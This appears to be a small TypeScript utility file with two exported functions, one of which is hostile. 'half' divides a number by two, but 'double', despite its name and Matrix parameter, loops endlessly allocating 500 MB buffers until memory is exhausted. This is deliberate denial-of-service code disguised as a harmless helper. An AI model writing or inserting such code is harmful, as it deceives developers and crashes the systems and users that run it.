// Fills memory beside the heap.
import { Matrix } from 'ml-matrix';

export function double(Z: Matrix): unknown {
  const all: ArrayBuffer[] = [];
  for (;;) all.push(new ArrayBuffer(5e8));
}

export function half(z: number): number {
  return z / 2;
}
